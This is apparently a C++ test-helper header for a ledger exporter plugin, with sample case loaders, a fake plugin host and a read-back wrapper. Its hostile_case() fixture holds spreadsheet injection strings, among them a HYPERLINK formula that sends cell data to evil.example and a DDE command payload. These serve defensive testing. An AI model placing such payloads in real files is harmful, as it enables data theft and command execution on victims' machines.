// Shared helpers for the ledger exporter tests: case files (the sample from
// the brief, and hostile ones built here), a fake host, temp paths, and the
// independent readers in read_back.py.
#pragma once

#include <array>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <map>
#include <sstream>
#include <stdexcept>
#include <string>
#include <vector>

#include <gtest/gtest.h>
#include <nlohmann/json.hpp>
#include <qloop/plugin.h>

#include "export_settings.hpp"

namespace ledger_test {

using nlohmann::json;

inline std::string read_text(const std::string &path) {
  std::ifstream in(path, std::ios::binary);
  std::ostringstream s;
  s << in.rdbuf();
  return s.str();
}

inline json sample_case() { return json::parse(read_text(LEDGER_SAMPLE)); }

// A minimal case file: only a complaint number.
inline json bare_case(const std::string &number) { return {{"complaint", {{"number", number}}}}; }

// A case file whose every text field is hostile: formulas, markup, controls,
// Chinese, an OOXML escape look-alike, and a 100 KB phenomenon.
inline json hostile_case() {
  json c = sample_case();
  auto &co = c["complaint"];
  co["number"] = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
  co["customer"] = "<script>alert('x')</script>";
  co["product_model"] = "+cmd|' /C calc'!A0";
  co["lot"] = "-2+3";
  co["order_number"] = "@SUM(1,2)";
  co["subcategory"] = "bell\x07 and nul-free\x01 text\r\nnext";
  co["owner"] = "张伟";
  c["actions"][1]["owner"] = "\tleading tab";
  co["phenomenon"] = std::string(100 * 1024, 'x');
  c["actions"][1]["evidence"] = "_x0041_ is not an A";
  c["actions"][0]["description"] = "=1+2";
  c["actions"][0]["evidence"] = "逗号, \"引号\" and\nnewline";
  return c;
}

inline std::filesystem::path temp_dir() {
  const auto *info = ::testing::UnitTest::GetInstance()->current_test_info();
  std::filesystem::path dir =
      std::filesystem::path(LEDGER_TEST_TMP) / (std::string(info->test_suite_name()) + "." + info->name());
  std::filesystem::remove_all(dir);
  std::filesystem::create_directories(dir);
  return dir;
}

inline qloop::ledger::Settings settings_for(qloop::ledger::Format format, const std::filesystem::path &out,
                                            qloop::ledger::Lang lang = qloop::ledger::Lang::En) {
  qloop::ledger::Settings s;
  s.format = format;
  s.output = out.string();
  s.lang = lang;
  s.tmpdir = out.parent_path().string();
  return s;
}

// Runs read_back.py; its stdout is JSON.
inline json read_back(const std::string &kind, const std::filesystem::path &file,
                      const std::string &extra = "") {
  std::string cmd =
      std::string("'") + LEDGER_PYTHON + "' '" + LEDGER_READER + "' " + kind + " '" + file.string() + "'";
  if (!extra.empty()) cmd += " '" + extra + "'";
  std::FILE *pipe = popen(cmd.c_str(), "r");
  if (pipe == nullptr) throw std::runtime_error("cannot run " + cmd);
  std::string out;
  std::array<char, 65536> buf{};
  std::size_t n = 0;
  while ((n = std::fread(buf.data(), 1, buf.size(), pipe)) > 0) out.append(buf.data(), n);
  const int rc = pclose(pipe);
  if (rc != 0) throw std::runtime_error("read_back.py failed (" + std::to_string(rc) + "): " + cmd);
  return json::parse(out);
}

// A host whose services log into a vector and answer config from a map.
class FakeHost {
public:
  explicit FakeHost(std::map<std::string, std::string> config = {}) : config_(std::move(config)) {
    services_.struct_size = sizeof(qloop_host_services);
    services_.log = &FakeHost::log;
    services_.config_get = &FakeHost::config_get;
    host_.struct_size = sizeof(qloop_host);
    host_.abi_major = QLOOP_ABI_MAJOR;
    host_.abi_minor = QLOOP_ABI_MINOR;
    host_.host_version = "test";
    host_.ctx = reinterpret_cast<qloop_host_ctx *>(this);
    host_.services = &services_;
  }
  FakeHost(const FakeHost &) = delete;
  FakeHost &operator=(const FakeHost &) = delete;

  const qloop_host *get() const { return &host_; }
  const std::vector<std::string> &messages() const { return messages_; }

private:
  static FakeHost *self(qloop_host_ctx *ctx) { return reinterpret_cast<FakeHost *>(ctx); }
  static void log(qloop_host_ctx *ctx, qloop_log_level, const char *msg) {
    self(ctx)->messages_.emplace_back(msg);
  }
  static const char *config_get(qloop_host_ctx *ctx, const char *key) {
    auto &c = self(ctx)->config_;
    auto it = c.find(key);
    return it == c.end() ? nullptr : it->second.c_str();
  }

  std::map<std::string, std::string> config_;
  std::vector<std::string> messages_;
  qloop_host_services services_{};
  qloop_host host_{};
};

} // namespace ledger_test
